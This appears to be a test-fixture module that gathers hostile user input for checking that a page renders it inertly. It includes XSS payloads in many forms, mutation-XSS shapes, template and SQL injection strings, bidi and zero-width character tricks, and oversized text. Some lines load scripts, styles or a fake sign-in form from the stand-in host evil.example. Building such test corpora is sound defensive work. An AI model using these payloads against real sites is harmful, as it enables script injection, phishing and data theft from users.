/**
 * What strangers write to break a page: markup, handlers, links that are programs, templates, shapes that change when a
 * browser repairs them, and text that hides, turns around or outgrows its place. Each sets `__hacked` if it runs.
 */
const RUN = 'window.__hacked=1';

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<iframe src="javascript:parent.__hacked=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.__hacked=1</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="prefetch" href="https://evil.example/p">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus>Sign in again</button></form>`,
  `<style>@import "https://evil.example/x.css"; * { display: none }</style>`,
  `<portal src="https://evil.example/"></portal>`,
  `<template><script>${RUN}</script></template>`,
  `<plaintext>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

const HANDLERS = [
  ...['onerror', 'oNeRrOr', 'onload'].map((on) => `<img src=x ${on}=${RUN}>`),
  `<img src=x onerror="${RUN}//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x\tonerror=${RUN}>`,
  `<img src="https://evil.example/pixel.gif">`,
  `<img srcset="https://evil.example/a 1x">`,
  `<image src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>hi</marquee>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<div onpointerover=${RUN} style="position:fixed;inset:0">over all</div>`,
  `<div style="animation-name:x" onanimationstart=${RUN}>`,
  `<p style="background:url(https://evil.example/b.png)">`,
  `<p style="position:fixed;inset:0;background:red">`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  '` onmouseover=`window.__hacked=1',
  `x" onerror="${RUN}" y="`,
];

const DRAWINGS = [
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<math href="javascript:${RUN}">click</math>`,
];

const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="&#106;avascript:${RUN}">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oYWNrZWQ9MTwvc2NyaXB0Pg==">click</a>`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `blob:https://evil.example/0`,
  `[click](javascript:${RUN})`,
  `![x](https://evil.example/p.png)`,
  `<https://evil.example/"onmouseover="${RUN}>`,
  `//evil.example/x.js`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%raw%}{{x}}{%endraw%}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${RUN}"}}}`,
  `__proto__`,
  `constructor`,
  `%s %o %c %d`,
  `$& $1 $\` $'`,
  `'; DROP TABLE ticket; --`,
  `' OR '1'='1`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;b&amp;gt; &copy; &#x41; &nbsp;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

const REPAIRED = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<table><td background="javascript:${RUN}">`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<?xml version="1.0"?><?x <img src=x onerror=${RUN}> ?>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<a <b <c <img src=x onerror=${RUN}`,
];

/** Characters that must be seen, because they hide or turn around what stands beside them. */
export const HIDING = [
  'invoice\u202Egpj.exe',
  '\u202Eeverything turned\u202C',
  '\u2066isolated\u2069 and \u2067turned',
  'left\u200Eright\u200Fmark',
  'zero\u200Bwidth\u200Bspace',
  'north\u200Dwind and north\u200Cwind',
  'soft\u00ADhyphen',
  'word\u2060joiner and \uFEFFbom',
  'filler\u3164\u115F\u1160\uFFA0',
  'line\u2028paragraph\u2029separators',
  'tags\u{E0068}\u{E0069}\u{E007F}',
  'bell\u0007 backspace\u0008 escape\u001B[31mred',
  'selector\u{E0101}',
];

/** JSON can say these, a database cannot hold them: they are shown as the replacement character. */
const UNSTORABLE = ['half an emoji \uD83D', '\uDE00 the other half', 'nothing\0here'];

const OVERGROWN = [
  'W'.repeat(240),
  'ﷺ'.repeat(60),
  `Z${'\u0335\u0336\u0489\u0360'.repeat(30)}a${'\u0352\u0346\u033F'.repeat(30)}`,
  'ส็็็็็็็็็็็็็็็็็็็็',
  '𒐫𒐫𒐫𒐫𒐫𒐫',
  '⸻'.repeat(30),
  `${'👨‍👩‍👧‍👦'.repeat(30)}`,
  `${'\n'.repeat(60)}below`,
  `${'\u00A0'.repeat(200)}end`,
  'שלום <b>עולם</b> (مرحبا) [abc] 123',
  '１２３ ｆｕｌｌ ｗｉｄｔｈ'.repeat(8),
];

export const HOSTILE_TEXTS = [
  ...TAGS,
  ...HANDLERS,
  ...DRAWINGS,
  ...LINKS,
  ...TEMPLATES,
  ...REPAIRED,
  ...HIDING,
  ...UNSTORABLE,
  ...OVERGROWN,
];
